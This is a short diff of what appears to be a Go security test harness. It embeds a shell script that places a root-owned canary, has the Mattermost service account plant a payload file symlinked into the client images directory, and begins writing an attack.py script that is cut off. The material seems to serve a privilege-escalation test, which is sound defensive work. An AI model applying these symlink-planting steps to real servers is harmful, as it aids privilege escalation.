@@ -26,7 +26,7 @@ func attacked(tr *trial) {
 umask 077
 head -c 30 /dev/urandom | base64 >/root/canary
 # In the version that serves, a file of the account's own, which the next version is to have, too.
-runuser -u mattermost -- sh -c 'echo owned >/var/lib/mattermost/data/payload; ln -s /var/lib/mattermost/data/payload "$(readlink -f /opt/mattermost)"/client/images/townsquare-attack'
+runuser -u mattermost -- sh -c 'echo owned >/var/lib/mattermost/data/payload; ln -s /var/lib/mattermost/data/payload "$(readlink -f /opt/mattermost)"/client/images/attack-was-here'
 cat >/run/attack.py <<'SCRIPT'
 import ctypes, glob, os
 libc = ctypes.CDLL(None, use_errno=True)
